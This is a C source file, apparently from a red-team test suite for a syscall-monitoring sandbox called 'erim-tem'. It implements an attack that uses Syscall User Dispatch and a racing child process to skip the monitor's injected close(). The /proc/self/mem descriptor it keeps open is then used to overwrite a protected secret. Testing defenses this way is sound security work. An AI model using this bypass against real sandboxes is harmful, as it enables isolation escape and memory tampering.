/* SPDX-License-Identifier: MIT */
/* atk_sud_dispatch.c: Syscall User Dispatch skips the close erim-tem
 * injects after refusing an open (red team 12, sud_inject).
 *
 * erim-tem refuses an open by its result and closes the new fd again with
 * a close() it injects on the caller's `syscall` instruction.  With Syscall
 * User Dispatch on (prctl PR_SET_SYSCALL_USER_DISPATCH), the kernel looks at
 * a selector byte in user memory at every system call entry, before ptrace
 * and seccomp, and on BLOCK does not run the call (SIGSYS instead).  The
 * selector lives in a MAP_SHARED page that a forked child (its own process:
 * never held while the caller's call is judged) flips to BLOCK as soon as
 * the refused fd shows in /proc/PPID/fd: after the open, before erim-tem's
 * close.  If the close is skipped, the /proc/self/mem fd stays open and
 * pwrite on it writes the secret (the memory file ignores protection
 * keys).  Without erim-tem the open just succeeds (the control run).
 *
 * Under erim-tem turning dispatch on is refused to every caller, and an
 * injected call that does not show its own entry stop stops the process. */
#include <fcntl.h>
#include <sys/prctl.h>
#include <time.h>

#include "atk_common.h"

#define TEM_PR_SET_SYSCALL_USER_DISPATCH 59
#define SEL_ALLOW 0
#define SEL_BLOCK 1

struct shared { volatile uint8_t selector; volatile int go, fdno, done; };
static struct shared *sh;

static void on_sigsys(int sig)
{
	(void)sig;
	while (sh->selector != SEL_ALLOW)   /* the flipper resets it: then rt_sigreturn may enter */
		;
}

/* the dispatch's "always allowed" range: never called */
__attribute__((noinline)) static void never(void) { __asm__ volatile(""); }

static void flipper(pid_t parent)
{
	struct timespec ts = { 0, 30 * 1000 * 1000 };
	char name[64], link[128];

	for (;;) {
		while (!sh->go)
			if (getppid() != parent)
				_exit(0);
		snprintf(name, sizeof name, "/proc/%d/fd/%d", (int)parent, sh->fdno);
		for (long i = 0; i < 20000 && sh->go; i++)
			if (readlink(name, link, sizeof link - 1) > 0) {
				sh->selector = SEL_BLOCK;   /* the open passed; erim-tem's close has not */
				break;
			}
		nanosleep(&ts, NULL);
		sh->selector = SEL_ALLOW;
		sh->go = 0;
		sh->done = 1;
	}
}

static enum atk_result atk_attack(void)
{
	static const char path[] = "/proc/self/mem";
	const char evil[8] = "EVILEVIL";
	enum atk_result res = ATK_REFUSED;
	int attempt, nextfd;
	pid_t child;

	sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (sh == MAP_FAILED)
		return ATK_ERROR;
	child = fork();
	if (child == 0) {
		flipper(getppid());
		_exit(0);
	}
	signal(SIGSYS, on_sigsys);
	if (syscall(SYS_prctl, TEM_PR_SET_SYSCALL_USER_DISPATCH, 1UL, (unsigned long)(uintptr_t)never, 1UL,
	            (unsigned long)(uintptr_t)&sh->selector) != 0)
		atk_say("PR_SET_SYSCALL_USER_DISPATCH on: %s (the open is tried without it)", strerror(errno));
	else
		atk_say("Syscall User Dispatch on, the selector in a page shared with process %d", (int)child);
	for (attempt = 1; attempt <= 20 && res == ATK_REFUSED; attempt++) {
		long rax, rdi = AT_FDCWD, rsi = (long)(uintptr_t)path, rdx = O_RDWR;
		register long r10 __asm__("r10") = 0;

		nextfd = dup(0);   /* the lowest free fd: what the open will return */
		close(nextfd);
		sh->fdno = nextfd;
		sh->done = 0;
		sh->go = 1;
		__asm__ volatile("syscall"
		                 : "=a"(rax), "+D"(rdi), "+S"(rsi), "+d"(rdx), "+r"(r10)
		                 : "a"((long)SYS_openat)
		                 : "rcx", "r11", "memory");
		while (!sh->done)
			;
		/* the fd, whatever the registers say: a skipped close leaves it */
		if (pwrite(nextfd, evil, sizeof evil, (off_t)(uintptr_t)atk_secret) == (ssize_t)sizeof evil) {
			atk_say("attempt %d: open -> %ld, yet fd %d writes the secret through %s", attempt, rax, nextfd, path);
			res = ATK_SUCCEEDED;
		}
		close(nextfd);
	}
	syscall(SYS_prctl, TEM_PR_SET_SYSCALL_USER_DISPATCH, 0UL, 0UL, 0UL, 0UL);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	if (res == ATK_REFUSED)
		atk_say("the refused fd never stayed open (%d attempts)", attempt - 1);
	return res;
}

static const char *atk_name = "atk_sud_dispatch";
static int atk_needs_pku = 0;
